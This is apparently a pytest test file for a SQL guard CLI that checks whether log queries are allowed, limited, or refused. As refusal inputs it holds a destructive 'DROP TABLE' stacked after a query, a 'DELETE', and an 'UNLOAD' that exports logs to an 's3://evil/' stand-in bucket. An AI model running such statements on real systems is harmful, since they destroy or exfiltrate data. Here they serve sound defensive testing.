"""`loglens guard`: says whether the guard allows a statement and why; exit 0 allowed, 1 refused."""

from __future__ import annotations

import argparse
import io
import json

import pytest

from loglens.devtools.cli import guard


def run(sql: str, *extra: str, stdin: str = "") -> tuple[int, str]:
    parser = argparse.ArgumentParser()
    guard.register(parser.add_subparsers())
    args = parser.parse_args(["guard", sql, *extra])
    out = io.StringIO()
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("sys.stdout", out)
        patch.setattr("sys.stdin", io.StringIO(stdin))
        code = args.handler(args)
    return code, out.getvalue()


def test_an_allowed_query_exits_0_and_shows_what_would_run() -> None:
    code, out = run("SELECT service, count(*) FROM logs WHERE created_at >= now() - interval '1 hour' GROUP BY 1")
    assert code == 0
    assert out.startswith("allowed: allowed; LIMIT 1000 added")
    assert "reads: logs" in out and "LIMIT 1000" in out.splitlines()[-1]


@pytest.mark.parametrize(
    ("sql", "code_name"),
    [
        ("DELETE FROM logs", "write_node"),
        ("SELECT * FROM logs", "unbounded_time"),
        ("SELECT pg_sleep(10)", "function_not_allowed"),
        ("SELECT severity FROM logs WHERE created_at > now() - interval '1 day'", "unknown_column"),
        ("SELECT * FROM conversation_turns", "relation_not_allowed"),
    ],
)
def test_a_refused_statement_exits_1_with_the_reason(sql: str, code_name: str) -> None:
    code, out = run(sql)
    assert code == 1 and out.startswith(f"refused ({code_name}): ")


def test_json_output_and_max_rows() -> None:
    code, out = run("SELECT day FROM daily_log_summary LIMIT 5000", "--json", "--max-rows", "50")
    verdict = json.loads(out)
    assert code == 0 and verdict["allowed"] and verdict["sql"].endswith("LIMIT 50")
    assert verdict["relations"] == ["daily_log_summary"]


def test_sql_from_standard_input() -> None:
    code, out = run("-", stdin="SELECT 1; DROP TABLE logs")
    assert code == 1 and "(multiple_statements)" in out


def test_the_lake_dialect_checks_trino_against_the_lake_table() -> None:
    sql = "SELECT service, count(*) FROM logs WHERE created_at >= current_timestamp - INTERVAL '1' DAY GROUP BY 1"
    code, out = run(sql, "--dialect", "trino", "--json")
    verdict = json.loads(out)
    assert code == 0 and verdict["dialect"] == "trino" and verdict["relations"] == ["logs"]
    assert verdict["sql"].endswith("GROUP BY 1 LIMIT 1000")


@pytest.mark.parametrize(
    ("sql", "code_name"),
    [
        ("SELECT * FROM logs WHERE trace_id = 'abc'", "unbounded_time"),
        ("SELECT * FROM daily_log_summary", "relation_not_allowed"),
        ("UNLOAD (SELECT * FROM logs) TO 's3://evil/'", "command"),
        ('SELECT "$path" FROM logs WHERE created_at >= current_timestamp - INTERVAL \'1\' DAY', "unknown_column"),
    ],
)
def test_a_lake_refusal_exits_1(sql: str, code_name: str) -> None:
    code, out = run(sql, "--dialect", "trino")
    assert code == 1 and out.startswith(f"refused ({code_name}): ")


def test_a_trace_lookup_needs_no_range_in_postgres() -> None:
    code, out = run("SELECT * FROM logs WHERE trace_id = 'abc'")
    assert code == 0 and out.startswith("allowed")
